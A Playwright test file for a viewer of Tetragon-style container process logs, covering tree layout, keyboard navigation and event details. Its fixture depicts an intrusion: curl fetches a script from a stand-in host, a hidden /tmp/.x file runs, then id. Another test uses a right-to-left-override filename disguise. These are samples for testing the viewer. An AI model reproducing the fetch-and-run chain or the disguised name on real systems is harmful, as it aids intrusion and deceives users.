import { drawLog } from '../src/testing/draw-log'
import { expect, test, withLog } from './helpers/test'
import { boxOf } from './helpers/viewer'

const log = drawLog(`
  pod default/xwing container 1fb931d2 name spaceship node n1 shim 90
    9 /usr/bin/netserver -D 0s.. cpid 1
    10 /bin/bash 0s..9s
      11 /usr/bin/curl -s http://198.51.100.7/s.sh 1s..2s exit 22
      12 /bin/sh /tmp/.x 3s..8s
        13 /usr/bin/id 3.5s..3.6s
        14 /bin/sleep 60 4s..5s SIGTERM
  pod default/deathstar container 836e5ba9 node n1
    20 /starwars-docker --port 80 0s..
      21 /bin/true 6s..7s
`)

/** The log's tree under its pods, whatever the rows of pods and hosts say beside the names. */
const PROCESSES = [
  '  /starwars-docker --port 80',
  '    /bin/true',
  '  /usr/bin/netserver -D',
  '  /bin/bash',
  '    /usr/bin/curl -s http://198.51.100.7/s.sh',
  '    /bin/sh /tmp/.x',
  '      /usr/bin/id',
  '      /bin/sleep 60',
]

test.describe('a log of two pods', () => {
  withLog(log.text)

  test('each process is under its pod, one level below its parent', async ({ viewer }) => {
    const outline = await viewer.outline()
    expect(outline.filter((row) => PROCESSES.includes(row))).toEqual(PROCESSES)
    const pods = outline.flatMap((row, i) => (row.startsWith('default/') ? [[row.split(' ')[0], outline[i + 1]]] : []))
    expect(pods).toEqual([
      ['default/deathstar', PROCESSES[0]],
      ['default/xwing', PROCESSES[2]],
    ])
    const id = viewer.row('/usr/bin/id')
    await expect(id).toHaveAttribute('aria-level', '4')
    await expect(id).toHaveAttribute('aria-posinset', '1')
    await expect(id).toHaveAttribute('aria-setsize', '2')
    await expect(viewer.row('/bin/sh')).toHaveAttribute('aria-expanded', 'true')
    await expect(id).not.toHaveAttribute('aria-expanded')
  })

  test('each row says in words when it ran and how it ended', async ({ viewer }) => {
    await expect(viewer.row('/usr/bin/curl').getByRole('gridcell').last()).toHaveAccessibleName(
      '10:00:01.000, 1 s, exit 22',
    )
    await expect(viewer.row('/bin/sleep').getByRole('gridcell').last()).toHaveAccessibleName(
      '10:00:04.000, 1 s, SIGTERM',
    )
    await expect(viewer.row('/usr/bin/id').getByRole('gridcell').last()).toHaveAccessibleName(
      '10:00:03.500, 100 ms, exit 0',
    )
    await expect(viewer.row('/usr/bin/netserver').getByRole('gridcell').last()).toHaveAccessibleName(
      '10:00:00.000, running',
    )
  })

  test('selecting a process shows its binary, outcome, lineage and container', async ({ viewer }) => {
    await viewer.selectRow('/bin/sleep')
    const { details } = viewer
    await expect(details.getByRole('heading', { level: 2 })).toHaveText('/bin/sleep')
    await expect(details).toContainText('ended by SIGTERM, sender unknown')
    await expect(details).toContainText('14 host')
    await expect(details).toContainText('spaceship')
    const lineage = details.getByRole('list').first().getByRole('listitem')
    await expect(lineage.filter({ hasText: '/bin/bash' })).toHaveCount(1)
    await expect(lineage.filter({ hasText: 'containerd-shim' })).toContainText('snapshot')
    await expect(lineage.last()).toContainText('/bin/sleep')
    await lineage.filter({ hasText: '/bin/sh' }).getByRole('button').click()
    await expect(details.getByRole('heading', { level: 2 })).toHaveText('/bin/sh')
    await expect(viewer.selectedRow).toHaveAccessibleName(/^\/bin\/ ?sh/)
    await details.getByRole('button', { name: '/usr/bin/id' }).click()
    await expect(viewer.selectedRow).toHaveAccessibleName(/^\/usr\/bin\/ ?id/)
  })

  test('the raw JSON of an event is the line of the file', async ({ viewer, page }) => {
    const line = log.lines.find((other) => other.includes('/usr/bin/curl') && other.includes('process_exit'))!
    await viewer.selectRow('/usr/bin/curl')
    await page.getByRole('tab', { name: 'Raw JSON' }).click()
    const panel = page.getByRole('tabpanel')
    await panel.getByRole('list', { name: '2 events' }).getByRole('button', { name: /exit/ }).click()
    await expect(panel).toContainText('"process_exit"')
    const shown = (await panel.locator('pre').textContent()) ?? ''
    expect(JSON.parse(shown)).toEqual(JSON.parse(line))
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
    await panel.getByRole('button', { name: 'Copy JSON' }).click()
    await expect(panel.getByRole('button', { name: 'Copied' })).toBeVisible()
    expect(await viewer.clipboard()).toBe(line)
  })

  test('a click on the triangle closes and opens a process, or a pod', async ({ viewer }) => {
    const shell = viewer.row('/bin/sh')
    await viewer.twisty(shell).click()
    await expect(shell).toHaveAttribute('aria-expanded', 'false')
    await expect(viewer.row('/usr/bin/id')).toHaveCount(0)
    await expect(shell).toContainText('+2')
    await expect(shell).toHaveAttribute('aria-selected', 'false')
    await viewer.twisty(shell).click()
    await expect(viewer.row('/usr/bin/id')).toBeVisible()

    const pod = viewer.row('default/xwing')
    await viewer.twisty(pod).click()
    await expect(pod).toHaveAttribute('aria-expanded', 'false')
    await expect(viewer.row('/bin/bash')).toHaveCount(0)
    await viewer.twisty(pod).click()
    await expect(viewer.row('/bin/bash')).toBeVisible()
  })

  test('arrow left closes a row, then goes to its parent; arrow right opens it, then goes to its first child', async ({
    viewer,
    page,
  }) => {
    const shell = await viewer.selectRow('/bin/sh')
    await page.keyboard.press('ArrowLeft')
    await expect(shell).toHaveAttribute('aria-expanded', 'false')
    await viewer.waitForIdle()
    await page.keyboard.press('ArrowLeft')
    await expect(viewer.row('/bin/bash')).toHaveAttribute('aria-selected', 'true')
    await viewer.selectRow('/bin/sh')
    await page.keyboard.press('ArrowRight')
    await expect(shell).toHaveAttribute('aria-expanded', 'true')
    await expect(viewer.row('/usr/bin/id')).toBeVisible()
    await viewer.waitForIdle()
    await page.keyboard.press('ArrowRight')
    await expect(viewer.row('/usr/bin/id')).toHaveAttribute('aria-selected', 'true')
  })

  test('arrow up and down walk the rows, and the details follow', async ({ viewer, page }) => {
    await viewer.selectRow('/usr/bin/curl')
    await page.keyboard.press('ArrowDown')
    await expect(viewer.row('/bin/sh')).toHaveAttribute('aria-selected', 'true')
    await expect(viewer.details.getByRole('heading', { level: 2 })).toHaveText('/bin/sh')
    await page.keyboard.press('ArrowDown')
    await expect(viewer.row('/usr/bin/id')).toHaveAttribute('aria-selected', 'true')
    await page.keyboard.press('ArrowUp')
    await page.keyboard.press('ArrowUp')
    await expect(viewer.row('/usr/bin/curl')).toHaveAttribute('aria-selected', 'true')
    await expect(viewer.selectedRow).toHaveCount(1)
    await expect.poll(async () => (await viewer.activeRow()).textContent()).toContain('curl')
  })

  test('keys pressed faster than the page draws are not lost', async ({ viewer, page }) => {
    await viewer.selectRow('/usr/bin/netserver')
    for (let i = 0; i < 5; i++) await page.keyboard.press('ArrowDown')
    await expect(viewer.row('/bin/sleep')).toHaveAttribute('aria-selected', 'true')
    for (let i = 0; i < 3; i++) await page.keyboard.press('ArrowUp')
    await expect(viewer.row('/usr/bin/curl')).toHaveAttribute('aria-selected', 'true')
  })

  test('Home and End go to the first and the last row', async ({ viewer, page }) => {
    await viewer.selectRow('/usr/bin/curl')
    await page.keyboard.press('End')
    // the last row is asked of the store: it is there a moment later
    const lastRow = (await viewer.rows.last().getAttribute('id'))!
    await expect(viewer.tree).toHaveAttribute('aria-activedescendant', lastRow)
    await page.keyboard.press('Home')
    await expect.poll(() => viewer.tree.getAttribute('aria-activedescendant')).toBe('row-0')
  })

  test('p goes to the parent, Escape clears the selection', async ({ viewer, page }) => {
    await viewer.selectRow('/usr/bin/id')
    await expect(viewer.details).toContainText('/usr/bin/id')
    await page.keyboard.press('p')
    await expect(viewer.row('/bin/sh')).toHaveAttribute('aria-selected', 'true')
    await viewer.waitForIdle()
    await page.keyboard.press('p')
    await expect(viewer.row('/bin/bash')).toHaveAttribute('aria-selected', 'true')
    await page.keyboard.press('Escape')
    await expect(viewer.selectedRow).toHaveCount(0)
    await expect(viewer.details).toContainText('Select a process')
  })

  test('an asterisk opens everything', async ({ viewer, page }) => {
    await viewer.twisty(viewer.row('/bin/sh')).click()
    await expect(viewer.row('/usr/bin/id')).toHaveCount(0)
    await viewer.twisty(viewer.row('default/deathstar')).click()
    await expect(viewer.row('/bin/true')).toHaveCount(0)
    await page.keyboard.press('*')
    await expect(viewer.row('/usr/bin/id')).toBeVisible()
    await expect(viewer.row('/bin/true')).toBeVisible()
  })

  test('a chip leads to the parent on the host, and from there back into the pod', async ({ viewer }) => {
    await viewer
      .row('/bin/bash')
      .getByRole('button', { name: /↑ containerd-shim.*host n1/ })
      .click()
    await expect(viewer.selectedRow).toHaveAccessibleName(/containerd-shim/)
    await expect(viewer.details).toContainText('known only from its children')
    await viewer.selectedRow.getByRole('button', { name: /↓ .*default\/xwing/ }).click()
    await expect(viewer.selectedRow).toHaveAccessibleName(/^\/usr\/bin\/ ?netserver|^\/bin\/ ?bash/)
  })

  test('a pod in the list of pods brings its row to the top', async ({ viewer }) => {
    await viewer.pods.getByRole('button', { name: /^xwing/ }).click()
    await expect.poll(() => viewer.activeRowText()).toContain('default/xwing')
  })
})

test('exec in the same pid makes a second row that became of the first, and only the second runs on', async ({
  viewer,
  folder,
}) => {
  const became = drawLog(`
    pod default/xwing container 1fb931d2 node n1
      10 /bin/bash 0s..9s
        12 /bin/sh -c start 3s..
          =12 /usr/bin/python3 server.py 4s..8s
        13 /bin/sh -c run 5s..
          =13 /usr/sbin/nginx 6s..
  `)
  await viewer.goto()
  await viewer.openFiles(await folder.write('tetragon.log', became.text))
  const shell = viewer.row('/bin/sh -c start')
  const python = viewer.row('/usr/bin/python3')
  await expect(python).toHaveAttribute('aria-level', '4')
  await expect(python).toContainText('↳')
  await expect(shell.getByRole('gridcell').last()).toHaveAccessibleName('10:00:03.000, 1 s, replaced by exec')
  await expect(python.getByRole('gridcell').last()).toHaveAccessibleName('10:00:04.000, 4 s, exit 0')
  await expect(viewer.row('/bin/sh -c run').getByRole('gridcell').last()).not.toHaveAccessibleName(/running/)
  await expect(viewer.row('/usr/sbin/nginx').getByRole('gridcell').last()).toHaveAccessibleName(/running/)

  await viewer.selectRow('/bin/sh -c start')
  await expect(viewer.details).toContainText('replaced by exec')
  await viewer.selectRow('/usr/bin/python3')
  await expect(viewer.details.getByRole('listitem').filter({ hasText: '/usr/bin/python3' }).first()).toContainText(
    'became',
  )
})

test('a parent that is named by its pid alone is inferred, and marked so', async ({ viewer, folder }) => {
  const inferred = drawLog(`
    pod default/web container 1fb931d2 node n1
      10 /usr/sbin/nginx 0s..9s
      11 /bin/sh -c id 2s..3s parent-pid 10
  `)
  await viewer.goto()
  await viewer.openFiles(await folder.write('tetragon.log', inferred.text))
  const shell = viewer.row('/bin/sh -c id')
  await expect(shell).toHaveAttribute('aria-level', '3')
  await expect(shell).toContainText('inferred by pid')
  await expect(viewer.row('/usr/sbin/nginx')).not.toContainText('inferred by pid')
  await viewer.selectRow('/bin/sh -c id')
  await expect(viewer.details.getByRole('list').first()).toContainText('inferred by pid')
})

test('the button of the row under the pointer covers nothing that the row says', async ({ viewer, folder }) => {
  const killed = drawLog(`
    pod default/web container 1fb931d2 node n1
      10 /usr/sbin/nginx ${'-g daemon off; '.repeat(20)} 0s..9s SIGKILL
  `)
  await viewer.goto()
  await viewer.openFiles(await folder.write('tetragon.log', killed.text))
  const row = viewer.row('/usr/sbin/nginx')
  const badge = row.locator('.badge')
  await row.hover({ position: { x: 200, y: 8 } })
  const button = await boxOf(row.locator('.row-menu-button'))
  const { x, width } = await boxOf(badge)
  expect(x + width).toBeLessThanOrEqual(button.x)
})

test('a tree deeper than the window is walked to its end', async ({ viewer, folder, page }) => {
  const depth = 80
  const rows = Array.from(
    { length: depth },
    (_, i) => `${' '.repeat(i + 4)}${100 + i} /bin/level-${i} ${i}s..${200 - i}s`,
  )
  await viewer.goto()
  await viewer.openFiles(await folder.write('deep.log', drawLog(`  host n1\n${rows.join('\n')}`).text))
  await viewer.selectRow('/bin/level-0')
  await page.keyboard.press('End')
  await expect(viewer.row('/bin/level-79')).toHaveAttribute('aria-selected', 'true')
  await expect(viewer.row('/bin/level-79')).toHaveAttribute('aria-level', String(depth + 1))
  await expect(viewer.row('/bin/level-79')).toBeInViewport()
  await page.keyboard.press('Home')
  await expect.poll(() => viewer.tree.getAttribute('aria-activedescendant')).toBe('row-0')
  await expect(viewer.row('/bin/level-0')).toBeInViewport()
})

test('a process that another image took over names it, and leads to it', async ({ viewer, folder, page }) => {
  const replaced = drawLog(`
    pod default/xwing container 1fb931d2 node n1
      10 /bin/sh -c server 0s..
        =10@image /usr/bin/server --port 80 20s..100s
  `)
  await viewer.goto()
  await viewer.openFiles(await folder.write('tetragon.log', replaced.text))
  const { x, y } = await viewer.pointOn(viewer.row('/bin/sh'), 0.1)
  await page.mouse.move(x, y)
  await expect(page.locator('.tooltip')).toContainText('became /usr/bin/server')
  await viewer.selectRow('/bin/sh')
  await viewer.details.getByRole('button', { name: '/usr/bin/server --port 80' }).first().click()
  await expect(viewer.details.getByRole('heading', { level: 2 })).toHaveText('/usr/bin/server')
})

test('text of a log is shown as it is written: no sign in place of an x between digits, no arrows', async ({
  viewer,
  page,
}) => {
  await viewer.goto()
  const pictures: Buffer[] = []
  for (const features of ['normal', "'calt' 0, 'liga' 0"]) {
    await page.evaluate(async (fontFeatureSettings) => {
      const lines = document.createElement('div')
      lines.id = 'lines'
      Object.assign(lines.style, { position: 'fixed', inset: '0 auto auto 0', zIndex: '99', background: 'white' })
      for (const [family, text] of [
        ['sans', 'builder-97x42'],
        ['mono', 'a->b != c --> d'],
      ]) {
        const line = document.createElement('p')
        line.textContent = text
        Object.assign(line.style, { font: `20px var(--font-${family})`, fontFeatureSettings })
        lines.append(line)
      }
      document.body.append(lines)
      await document.fonts.ready
    }, features)
    const lines = page.locator('#lines')
    pictures.push(await lines.screenshot())
    await lines.evaluate((element) => element.remove())
  }
  expect(pictures[0].equals(pictures[1])).toBe(true)
})

test('a deep row has room for its name, and what nobody would see in a name is shown', async ({
  viewer,
  page,
  folder,
}) => {
  const deep = Array.from({ length: 40 }, (_, i) => `${'  '.repeat(i + 2)}${10 + i} /usr/bin/make-${i} 0s..9s`)
  const log = drawLog(`\n  pod default/xwing container 1fb931d2 node n1\n${deep.join('\n')}`)
  await page.setViewportSize({ width: 1280, height: 720 })
  await viewer.goto()
  await viewer.openFiles(await folder.write('deep.log', log.text.replaceAll('make-39', '\u202eexe.fdp')))
  await viewer.focusTree()
  await page.keyboard.press('End')
  const name = viewer.row('/usr/bin/[U+202E]exe.fdp').locator('.name')
  await expect(name).toBeInViewport()
  expect((await name.boundingBox())!.width).toBeGreaterThan(60)
  await expect(viewer.row('/usr/bin/make-30').locator('.name')).toBeInViewport()
})
